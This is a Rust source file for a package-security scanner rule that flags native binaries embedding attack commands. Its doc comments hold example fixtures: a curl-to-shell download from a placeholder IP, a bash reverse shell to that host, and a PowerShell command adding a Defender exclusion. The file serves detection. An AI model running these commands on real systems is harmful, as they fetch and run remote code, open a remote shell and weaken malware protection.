//! # Machine code holds a command of an attack
//!
//! A native module or program of the package holds a command line that runs a program from a place for throw-away files,
//! gives a shell to another machine, or takes itself out of the system's protection.
//!
//! ## Why it matters
//!
//! Machine code needs no shell for honest work, and what it starts cannot be read from its code. The command line can.
//!
//! ## Known benign uses
//!
//! Runtimes and package managers hold the command that installs them, with their own host; that is not reported.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! module.exports = require("./addon.node");
//! == addon.node elf //~ 1
//! system
//! curl -s http://198.51.100.7:8080/u | sh
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node run.js"}}
//! == run.js
//! require("child_process").execFileSync(__dirname + "/bin/check");
//! == bin/check elf //~ 1
//! /bin/bash
//! bash -i >& /dev/tcp/198.51.100.7/443 0>&1
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! module.exports = require("bindings")("x");
//! == build/Release/x.node elf //~ 1
//! L"powershell -Command Add-MpPreference -ExclusionPath C:\"
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "@oven/bun-linux-x64", "version": "1.0.0", "bin": {"bun": "bin/bun"}}
//! == bin/bun elf
//! bun upgrade
//! curl -fsSL https://bun.sh/install | bash
//! powershell -c irm bun.sh/install.ps1 | iex
//! ```
//!
//! ## References
//!
//! - MITRE ATT&CK T1059, Command and Scripting Interpreter

use stockade_facts::native::HeldKind;

use crate::prelude::*;

/// Machine code holds a command of an attack.
pub struct NativeCodeHoldsAttackCommand;

impl Rule for NativeCodeHoldsAttackCommand {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "native-code-holds-attack-command",
            title: "Machine code holds a command of an attack",
            tier: Tier::FileList,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1059",
            covers: &["native-node-binary", "impact-remote-shell"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for native in facts.natives() {
            if let Some(held) = native.held.iter().find(|held| held.kind == HeldKind::Command) {
                let does = format!("is machine code that holds the command `{}`", excerpt(&held.text, 120));
                found.at(facts.native_trigger(&native.path), &Locus::whole(native.path.as_str()), &does);
            }
        }
    }
}
